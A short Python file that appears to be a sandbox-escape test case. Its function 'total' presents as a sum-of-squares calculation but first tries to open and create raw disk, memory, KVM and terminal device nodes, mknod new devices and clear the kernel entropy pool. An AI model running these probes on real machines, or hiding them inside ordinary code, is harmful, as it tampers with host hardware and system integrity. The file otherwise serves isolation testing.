"""Break out: devices made, opened and written to.

Goal: the disk, memory and terminals of the machine.
Promise: S13, S14
Verdict: wrong
"""

import fcntl
import os
import stat

NAMES = ("sda", "vda", "nvme0n1", "mem", "kmem", "kvm", "fuse", "tty", "console", "ptmx")
NAMES += ("net/tun", "shm/hostile", "loop-control", "dri/card0", "nvidia0", "mqueue/hostile")


def total(n):
    done = []
    for name in NAMES:
        try:
            os.close(os.open(f"/dev/{name}", os.O_RDWR | os.O_CREAT, 0o666))
            done.append(name)
        except OSError:
            continue
    for kind, device in ((stat.S_IFBLK, (8, 0)), (stat.S_IFCHR, (1, 1)), (stat.S_IFCHR, (10, 232))):
        try:
            os.mknod(f"hostile-{n}-{kind}", kind | 0o666, os.makedev(*device))
            done.append(device)
        except OSError:
            continue
    for name in ("random", "urandom", "null"):
        try:
            descriptor = os.open(f"/dev/{name}", os.O_RDWR)
            fcntl.ioctl(descriptor, 0x5206)  # forget all entropy
            done.append(name)
        except OSError:
            continue
    print(*done)
    return sum(i * i for i in range(n + 1)) if done else 0
